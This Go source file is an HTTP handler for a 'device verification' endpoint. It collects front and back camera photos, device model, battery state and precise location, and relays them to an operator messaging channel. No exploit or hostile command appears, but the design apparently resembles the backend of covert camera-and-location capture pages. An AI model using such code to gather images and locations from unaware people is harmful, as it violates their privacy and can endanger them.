package httpapi

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"

	"github.com/labstack/echo/v4"

	"formrelay/internal/imaging"
	"formrelay/internal/notify"
	logx "formrelay/pkg/logx"
)

type verifyRequest struct {
	// Image lists arrive as raw JSON so a malformed list degrades to "no
	// images" instead of failing the whole submission.
	FrontImages json.RawMessage `json:"frontImages"`
	BackImages  json.RawMessage `json:"backImages"`
	DeviceInfo  *deviceInfo     `json:"deviceInfo"`
	Location    *location       `json:"location"`
}

type deviceInfo struct {
	Model   string  `json:"model"`
	OS      string  `json:"os"`
	Battery battery `json:"battery"`
}

type battery struct {
	Level    float64 `json:"level"`
	Charging bool    `json:"charging"`
}

type location struct {
	Latitude  float64 `json:"latitude"`
	Longitude float64 `json:"longitude"`
	Accuracy  float64 `json:"accuracy"`
}

type verifyResponse struct {
	Success        bool   `json:"success"`
	ReceivedImages int    `json:"receivedImages"`
	Message        string `json:"message"`
}

// Verify processes a device-verification submission: validate, decode both
// image lists, relay a summary, the throttled photo batches (or a warning per
// empty side), and a final confirmation.
func (h *Handler) Verify(c echo.Context) error {
	var req verifyRequest
	if err := c.Bind(&req); err != nil {
		return c.JSON(http.StatusBadRequest, errorBody("invalid request body"))
	}
	if req.DeviceInfo == nil || req.Location == nil {
		return c.JSON(http.StatusBadRequest, errorBody("Missing required fields: deviceInfo and location"))
	}

	ctx := c.Request().Context()

	front := imaging.DecodeList(req.FrontImages, h.maxImages)
	back := imaging.DecodeList(req.BackImages, h.maxImages)
	total := len(front) + len(back)

	h.log.Info("verification submission",
		logx.String("model", req.DeviceInfo.Model),
		logx.Int("front", len(front)),
		logx.Int("back", len(back)),
	)

	if err := h.verifyText(ctx, summaryMessage(&req, len(front), len(back))); err != nil {
		return h.verifyFailed(c, err)
	}

	for _, side := range []struct {
		label  string
		images []imaging.Image
	}{
		{"Front", front},
		{"Back", back},
	} {
		if len(side.images) == 0 {
			warning := fmt.Sprintf("⚠️ No %s camera images received", strings.ToLower(side.label))
			if err := h.verifyText(ctx, warning); err != nil {
				return h.verifyFailed(c, err)
			}
			continue
		}
		if err := h.batch.SendPhotos(ctx, side.label, contents(side.images)); err != nil {
			return h.verifyFailed(c, err)
		}
	}

	final := fmt.Sprintf("✅ Verification complete: %d image(s) received", total)
	if err := h.verifyText(ctx, final); err != nil {
		return h.verifyFailed(c, err)
	}

	return c.JSON(http.StatusOK, verifyResponse{
		Success:        true,
		ReceivedImages: total,
		Message:        "Verification processed",
	})
}

// verifyFailed converts an exhausted relay into a 500 after one best-effort
// operator notification. The notification's own failure is logged, never
// propagated.
func (h *Handler) verifyFailed(c echo.Context, err error) error {
	h.log.Error("verification relay failed", logx.Err(err))

	notify.BestEffort(c.Request().Context(), h.log, "operator notification", func(ctx context.Context) error {
		return h.operator.SendText(ctx, "🚨 formrelay: verification relay failed: "+err.Error())
	})

	return c.JSON(http.StatusInternalServerError, errorBody(err.Error()))
}

func summaryMessage(req *verifyRequest, front, back int) string {
	charging := "not charging"
	if req.DeviceInfo.Battery.Charging {
		charging = "charging"
	}
	var b strings.Builder
	b.WriteString("📱 New device verification\n")
	fmt.Fprintf(&b, "Model: %s\n", req.DeviceInfo.Model)
	fmt.Fprintf(&b, "OS: %s\n", req.DeviceInfo.OS)
	fmt.Fprintf(&b, "Battery: %v%% (%s)\n", req.DeviceInfo.Battery.Level, charging)
	fmt.Fprintf(&b, "Location: %v, %v (±%vm)\n", req.Location.Latitude, req.Location.Longitude, req.Location.Accuracy)
	fmt.Fprintf(&b, "Images: front %d, back %d", front, back)
	return b.String()
}

func contents(images []imaging.Image) [][]byte {
	out := make([][]byte, len(images))
	for i, img := range images {
		out[i] = img.Content
	}
	return out
}

func errorBody(msg string) echo.Map {
	return echo.Map{"success": false, "error": msg}
}
